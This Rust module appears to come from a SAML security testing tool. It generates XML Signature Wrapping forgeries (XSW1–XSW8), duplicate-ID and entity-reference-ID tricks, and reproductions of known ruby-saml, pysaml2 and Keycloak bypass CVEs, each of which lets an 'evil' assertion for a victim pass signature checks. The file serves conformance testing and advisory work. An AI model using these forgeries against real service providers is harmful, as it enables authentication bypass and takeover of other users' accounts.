//! The assembly and response stages: faults that add, move or wrap whole elements around the
//! genuinely signed assertion, so the signature stays valid but does not cover what a careless
//! SP consumes.
//!
//! XSW1–XSW8 follow SAML Raider and "On Breaking SAML" (USENIX Security 2012). XSW3–XSW8 and
//! the other element faults rearrange the [`Assembly`] before encryption; XSW1 and XSW2 wrap
//! the signed *Response*, so they run after it is written and signed.

use super::stages::StageContext;
use super::{
    DigestPosition, DuplicateIdPlacement, EntityRefIdPlacement, HiddenOriginal,
    ResponseLevelOriginal, SignatureHome, signed_assertion,
};
use crate::saml::assertion::AssertionModel;
use crate::saml::mint::{Assembly, Fragment, MintError, write_response_with_signature};
use crate::saml::ns;
use crate::saml::response::{signature_template, write_assertion};
use crate::saml::xml::escape_attr;

/// `append-unsigned-assertion`: an unsigned assertion for the victim after the genuine ones.
pub(crate) fn append_unsigned_assertion(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    let e = cx.evil_assertion(victim, "-evil-second")?;
    asm.fragments
        .push(Fragment::assertion(write_assertion(&e, None)));
    Ok(())
}

/// `signed-element-as-first-root`: the login's own signed assertion moves out in front of the
/// Response, standing alone (it declares its own namespaces); the Response keeps an unsigned
/// assertion for the victim in its place. Both in plaintext, like the interop probe
/// (tests/interop/lib/probe_two_roots.py): the stacks this was published against
/// (passport-saml 3) accept plaintext assertions.
pub(crate) fn signed_element_as_first_root(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    let Some(first) = asm.fragments.first_mut() else {
        return Ok(());
    };
    let forged = write_assertion(&cx.evil_assertion(victim, "-forged")?, None);
    asm.first_root = Some(std::mem::replace(&mut first.xml, forged));
    first.encrypt = false;
    Ok(())
}

/// `signed-foreign-element`: a genuinely IdP-signed element that is not an assertion (a minimal
/// IdP EntityDescriptor) inside the Response, before the assertions. That the assertion is
/// unsigned unless `keep_assertion_signature` is the crypto stage's part of this fault.
pub(crate) fn signed_foreign_element(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
) -> Result<(), MintError> {
    let input = cx.input;
    let md_id = "_signed-foreign-element";
    let tpl = signature_template(md_id, Some(&input.keys.idp.cert_b64), false);
    let md = format!(
        r#"<md:EntityDescriptor xmlns:md="{}" ID="{md_id}" entityID="{}">{tpl}<md:IDPSSODescriptor protocolSupportEnumeration="{}"/></md:EntityDescriptor>"#,
        ns::MD,
        escape_attr(&input.ctx.idp_entity_id),
        ns::SAMLP
    );
    asm.prefix.push(
        cx.signer
            .sign_enveloped(md, &input.keys.idp.signer, false)?,
    );
    Ok(())
}

/// XSW3: the evil assertion inserted before the signed one.
pub(crate) fn xsw3(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    if let Some(w) = Wrapping::of(asm, cx, victim)? {
        asm.fragments
            .insert(0, Fragment::assertion(write_assertion(&w.evil, None)));
    }
    Ok(())
}

/// XSW4: the evil assertion wraps the signed one (as its last child).
pub(crate) fn xsw4(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    if let Some(w) = Wrapping::of(asm, cx, victim)? {
        let evil = write_assertion(&w.evil, None).replacen(
            "</saml:Assertion>",
            &format!("{}</saml:Assertion>", w.signed),
            1,
        );
        asm.fragments[0] = Fragment::assertion(evil);
    }
    Ok(())
}

/// XSW5: the evil assertion carries the original Signature; the clean original follows,
/// unsigned.
pub(crate) fn xsw5(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    if let Some(w) = Wrapping::of(asm, cx, victim)? {
        asm.fragments[0] = Fragment::assertion(write_assertion(&w.evil, Some(&w.signature)));
        asm.fragments.push(Fragment::assertion(w.clean));
    }
    Ok(())
}

/// XSW6: like XSW5, but the clean original sits inside the evil assertion's Signature.
pub(crate) fn xsw6(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    if let Some(w) = Wrapping::of(asm, cx, victim)? {
        let sig =
            w.signature
                .replacen("</ds:Signature>", &format!("{}</ds:Signature>", w.clean), 1);
        asm.fragments[0] = Fragment::assertion(write_assertion(&w.evil, Some(&sig)));
    }
    Ok(())
}

/// XSW7: the signed assertion hides in `samlp:Extensions`; the evil one is where SPs look.
pub(crate) fn xsw7(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    if let Some(w) = Wrapping::of(asm, cx, victim)? {
        asm.extensions = Some(format!(
            r#"<samlp:Extensions>{}</samlp:Extensions>"#,
            w.signed
        ));
        asm.fragments[0] = Fragment::assertion(write_assertion(&w.evil, None));
    }
    Ok(())
}

/// XSW8: the clean original goes into a `ds:Object` of the evil assertion's Signature.
pub(crate) fn xsw8(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    if let Some(w) = Wrapping::of(asm, cx, victim)? {
        let sig = w.signature.replacen(
            "</ds:Signature>",
            &format!("<ds:Object>{}</ds:Object></ds:Signature>", w.clean),
            1,
        );
        asm.fragments[0] = Fragment::assertion(write_assertion(&w.evil, Some(&sig)));
    }
    Ok(())
}

/// XSW1: an evil Response whose Signature holds the signed Response, cleaned of its own
/// Signature; the Reference (#original-ID) resolves to the copy.
pub(crate) fn xsw1(
    response: &mut String,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    wrap_response(response, cx, victim, |signature, clean| {
        signature.replacen("</ds:Signature>", &format!("{clean}</ds:Signature>"), 1)
    })
}

/// XSW2: an evil Response with the cleaned signed Response as a sibling before the Signature.
pub(crate) fn xsw2(
    response: &mut String,
    cx: &StageContext<'_>,
    victim: &Option<String>,
) -> Result<(), MintError> {
    wrap_response(response, cx, victim, |signature, clean| {
        format!("{clean}{signature}")
    })
}

/// Replace the signed `response` by an evil Response (same model, ID `…-evil`) that holds only
/// an evil assertion (encrypted like the real one would be) and, where the Response's Signature
/// goes, what `place(signature, clean original)` builds.
fn wrap_response(
    response: &mut String,
    cx: &StageContext<'_>,
    victim: &Option<String>,
    place: impl FnOnce(&str, &str) -> String,
) -> Result<(), MintError> {
    let evil = cx.evil_assertion(victim, "-evil")?;
    let evil_fragment = cx.seal(&write_assertion(&evil, None))?;
    let (ss, se) = signature_span(response).unwrap_or((0, 0));
    let signature = &response[ss..se];
    let clean = strip_signature(response);
    let mut evil_model = cx.model.clone();
    evil_model.id = Some(format!(
        "{}-evil",
        cx.model.id.as_deref().unwrap_or("_response")
    ));
    let inner = place(signature, &clean);
    *response = write_response_with_signature(&evil_model, &[evil_fragment], Some(&inner));
    Ok(())
}

/// What every assertion-level XSW variant rearranges: the first assertion as signed, its
/// Signature, the assertion without it, and an evil assertion for the victim.
struct Wrapping {
    signed: String,
    signature: String,
    clean: String,
    evil: AssertionModel,
}

impl Wrapping {
    /// `None` when there is no assertion to wrap.
    fn of(
        asm: &Assembly,
        cx: &StageContext<'_>,
        victim: &Option<String>,
    ) -> Result<Option<Self>, MintError> {
        let Some(signed) = asm.fragments.first().map(|f| f.xml.clone()) else {
            return Ok(None);
        };
        let evil = cx.evil_assertion(victim, "-evil")?;
        let (ss, se) = signature_span(&signed).unwrap_or((0, 0));
        let signature = signed[ss..se].to_string();
        let clean = strip_signature(&signed);
        Ok(Some(Wrapping {
            signed,
            signature,
            clean,
            evil,
        }))
    }
}

/// Byte range of the first `ds:Signature` element.
fn signature_span(xml: &str) -> Option<(usize, usize)> {
    let start = xml.find("<ds:Signature")?;
    let end = xml[start..].find("</ds:Signature>")? + start + "</ds:Signature>".len();
    Some((start, end))
}

/// `xml` without its first `ds:Signature`.
fn strip_signature(xml: &str) -> String {
    match signature_span(xml) {
        Some((s, e)) => format!("{}{}", &xml[..s], &xml[e..]),
        None => xml.to_string(),
    }
}

// ---- issue 13: published SAML bypass advisories (docs/advisories.md S1-S4) ----

/// The namespace of the unknown wrapper element some placements use.
const WRAPPER_NS: &str = "urn:mock:xsw";

/// `xml` inside an unknown `<x:W>` element (a Response child no SAML schema defines).
fn in_wrapper(xml: &str) -> String {
    format!(r#"<x:W xmlns:x="{WRAPPER_NS}">{xml}</x:W>"#)
}

/// `xml` as the last child of the assertion `assertion`.
fn as_last_child(assertion: &str, xml: &str) -> String {
    match assertion.rfind("</saml:Assertion>") {
        Some(end) => format!("{}{xml}{}", &assertion[..end], &assertion[end..]),
        None => assertion.to_string(),
    }
}

/// `digest-value-elsewhere` (ruby-saml CVE-2024-45409): the NameID of the signed assertion is
/// changed to the victim's and the genuine Signature kept (its SignedInfo still verifies); the
/// digest of the tampered assertion, computed exactly as `digest-value-comment` does, goes to
/// `position`. A verifier that looks `ds:DigestValue` (or `ds:Reference`) up from the document
/// root finds the forged one first.
pub(crate) fn digest_value_elsewhere(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    position: DigestPosition,
) -> Result<(), MintError> {
    let Some(first) = asm.fragments.first_mut() else {
        return Ok(());
    };
    let (tampered, forged) = signed_assertion::tamper_with_matching_signature(&first.xml, cx)?;
    let declare_ds = |x: &str, tag: &str| {
        x.replacen(
            &format!("<ds:{tag}"),
            &format!(r#"<ds:{tag} xmlns:ds="{}""#, ns::DS),
            1,
        )
    };
    let forged_signed_info =
        signed_assertion::element(&forged, "<ds:SignedInfo>", "</ds:SignedInfo>")
            .unwrap_or_default()
            .to_string();
    first.xml = match position {
        DigestPosition::Extensions => {
            let digest =
                signed_assertion::element(&forged, "<ds:DigestValue>", "</ds:DigestValue>")
                    .unwrap_or_default();
            asm.extensions = Some(format!(
                "<samlp:Extensions>{}</samlp:Extensions>",
                declare_ds(digest, "DigestValue")
            ));
            tampered
        }
        DigestPosition::ExtensionsReference => {
            let reference = signed_assertion::element(&forged, "<ds:Reference ", "</ds:Reference>")
                .unwrap_or_default();
            asm.extensions = Some(format!(
                "<samlp:Extensions>{}</samlp:Extensions>",
                declare_ds(reference, "Reference")
            ));
            tampered
        }
        DigestPosition::BeforeSignedInfo => tampered.replacen(
            "<ds:SignedInfo>",
            &format!("<ds:Object>{forged_signed_info}</ds:Object><ds:SignedInfo>"),
            1,
        ),
        DigestPosition::AfterSignature => tampered.replacen(
            "</ds:Signature>",
            &format!("<ds:Object>{forged_signed_info}</ds:Object></ds:Signature>"),
            1,
        ),
    };
    Ok(())
}

/// `xsw-duplicate-id`: an evil assertion with the signed assertion's own ID, the genuine one
/// moved to `original`, and the Signature left in the genuine assertion or moved into the evil
/// one. A verifier that resolves `#ID` to the first (or last) element registered under it
/// digests the genuine assertion while the SP reads the evil one.
pub(crate) fn xsw_duplicate_id(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
    original: DuplicateIdPlacement,
    signature: SignatureHome,
) -> Result<(), MintError> {
    let Some(w) = Wrapping::of(asm, cx, victim)? else {
        return Ok(());
    };
    let mut evil = w.evil.clone();
    evil.id = cx.model.assertions.first().and_then(|a| a.id.clone());
    let (genuine, evil) = match signature {
        SignatureHome::Genuine => (w.signed, write_assertion(&evil, None)),
        SignatureHome::Evil => (w.clean, write_assertion(&evil, Some(&w.signature))),
    };
    match original {
        DuplicateIdPlacement::Extensions => {
            asm.extensions = Some(format!("<samlp:Extensions>{genuine}</samlp:Extensions>"));
            asm.fragments[0] = Fragment::assertion(evil);
        }
        DuplicateIdPlacement::WrapperBefore => {
            asm.prefix.push(in_wrapper(&genuine));
            asm.fragments[0] = Fragment::assertion(evil);
        }
        DuplicateIdPlacement::SiblingAfter => {
            asm.fragments[0] = Fragment::assertion(evil);
            asm.fragments.insert(1, Fragment::assertion(genuine));
        }
        DuplicateIdPlacement::NestedLastChild => {
            asm.fragments[0] = Fragment::assertion(as_last_child(&evil, &genuine));
        }
    }
    Ok(())
}

/// `xsw-signature-in-evil` (pysaml2 CVE-2021-21238): the evil assertion (its own ID) carries
/// the genuine Signature, whose Reference still names the original; the original, its
/// Signature stripped, goes to `original`. These are the three test vectors of the pysaml2 fix.
pub(crate) fn xsw_signature_in_evil(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
    original: HiddenOriginal,
) -> Result<(), MintError> {
    let Some(w) = Wrapping::of(asm, cx, victim)? else {
        return Ok(());
    };
    let evil = write_assertion(&w.evil, Some(&w.signature));
    match original {
        HiddenOriginal::NestedLastChild => {
            asm.fragments[0] = Fragment::assertion(as_last_child(&evil, &w.clean));
        }
        HiddenOriginal::Extensions => {
            asm.extensions = Some(format!("<samlp:Extensions>{}</samlp:Extensions>", w.clean));
            asm.fragments[0] = Fragment::assertion(evil);
        }
        HiddenOriginal::WrapperAfter => {
            asm.fragments[0] = Fragment::assertion(evil);
            // Not an assertion: written as is, after the evil one.
            asm.fragments.insert(
                1,
                Fragment {
                    xml: in_wrapper(&w.clean),
                    encrypt: false,
                },
            );
        }
    }
    Ok(())
}

/// `xsw-assertion-signature-on-response` (Keycloak CVE-2024-8698): the assertion's Signature
/// becomes a child of `samlp:Response`, where a Response signature sits, its Reference still
/// `#<assertion ID>`; the clean original goes to `original`; an unsigned evil assertion stands
/// where the assertion belongs. A verifier that calls the document signed because the root
/// has a valid ds:Signature child, without asking what it references, consumes the evil one.
pub(crate) fn xsw_assertion_signature_on_response(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
    original: ResponseLevelOriginal,
) -> Result<(), MintError> {
    let Some(w) = Wrapping::of(asm, cx, victim)? else {
        return Ok(());
    };
    asm.response_signature = Some(w.signature);
    match original {
        ResponseLevelOriginal::Extensions => {
            asm.extensions = Some(format!("<samlp:Extensions>{}</samlp:Extensions>", w.clean));
        }
        ResponseLevelOriginal::Wrapper => asm.prefix.push(in_wrapper(&w.clean)),
    }
    asm.fragments[0] = Fragment::assertion(write_assertion(&w.evil, None));
    Ok(())
}

// ---- S8 remainder: an entity reference in the ID (docs/advisories.md) ----

/// The name of the internal entity whose replacement text is the genuine assertion's ID.
pub(crate) const ID_ENTITY: &str = "i";

/// `<!DOCTYPE {root} [<!ENTITY i "{id}">]>`: the DTD an `entity-ref-id` document starts with.
/// An internal entity only (no SYSTEM identifier: nothing to fetch). The ID is refused if it
/// holds a character that would make the literal ambiguous (the broker's IDs never do).
pub(crate) fn id_entity_doctype(root: &str, id: &str) -> Result<String, MintError> {
    if id.contains(['&', '<', '%', '"']) {
        return Err(super::FaultError::NotApplicable(format!(
            "assertion ID {id:?} holds markup characters; refusing to write an ambiguous DTD"
        ))
        .into());
    }
    Ok(format!(
        r#"<!DOCTYPE {root} [<!ENTITY {ID_ENTITY} "{id}">]>"#
    ))
}

/// `entity-ref-id`: an evil assertion for `victim` whose `ID` is written `&i;` (the entity the
/// DTD declares as the genuine assertion's ID), next to the genuine signed assertion, with the
/// Signature left in the genuine one or moved into the evil one. `Extensions`: plaintext, the
/// genuine assertion in `samlp:Extensions` (the Response's DTD is the document stage's part);
/// `EncryptedNested`: one encrypted document, its own DTD, then the evil assertion with the
/// genuine one as its last child.
pub(crate) fn entity_ref_id(
    asm: &mut Assembly,
    cx: &StageContext<'_>,
    victim: &Option<String>,
    placement: EntityRefIdPlacement,
    signature: SignatureHome,
) -> Result<(), MintError> {
    let encrypted = cx.encryption.is_some();
    match (placement, encrypted) {
        (EntityRefIdPlacement::Extensions, true) => {
            return Err(super::FaultError::NotApplicable(
                "entity-ref-id placement = \"extensions\" puts the DTD on the Response, which a decrypted assertion never sees: add `no-encryption`".into(),
            )
            .into());
        }
        (EntityRefIdPlacement::EncryptedNested, false) => {
            return Err(super::FaultError::NotApplicable(
                "entity-ref-id placement = \"encrypted-nested\" needs encryption (its DTD starts the encrypted document): remove `no-encryption`".into(),
            )
            .into());
        }
        (EntityRefIdPlacement::Extensions, false)
        | (EntityRefIdPlacement::EncryptedNested, true) => {}
    }
    let Some(w) = Wrapping::of(asm, cx, victim)? else {
        return Ok(());
    };
    let genuine_id = cx
        .model
        .assertions
        .first()
        .and_then(|a| a.id.clone())
        .ok_or_else(|| super::FaultError::NotApplicable("the assertion has no ID".into()))?;
    let (genuine, evil) = match signature {
        SignatureHome::Genuine => (w.signed, write_assertion(&w.evil, None)),
        SignatureHome::Evil => (w.clean, write_assertion(&w.evil, Some(&w.signature))),
    };
    // The evil assertion is written with its own (derived, attribute-safe) ID, which is then
    // replaced by the entity reference in its start tag only.
    let own = format!(
        r#" ID="{}""#,
        escape_attr(w.evil.id.as_deref().unwrap_or_default())
    );
    let at = evil
        .find(&own)
        .filter(|at| *at < evil.find('>').unwrap_or(0))
        .ok_or_else(|| super::FaultError::NotApplicable("the evil assertion has no ID".into()))?;
    let evil = format!(
        r#"{} ID="&{ID_ENTITY};"{}"#,
        &evil[..at],
        &evil[at + own.len()..]
    );
    match placement {
        EntityRefIdPlacement::Extensions => {
            asm.extensions = Some(format!("<samlp:Extensions>{genuine}</samlp:Extensions>"));
            asm.fragments[0] = Fragment::assertion(evil);
        }
        EntityRefIdPlacement::EncryptedNested => {
            let dtd = id_entity_doctype("saml:Assertion", &genuine_id)?;
            asm.fragments[0] =
                Fragment::assertion(format!("{dtd}{}", as_last_child(&evil, &genuine)));
        }
    }
    Ok(())
}
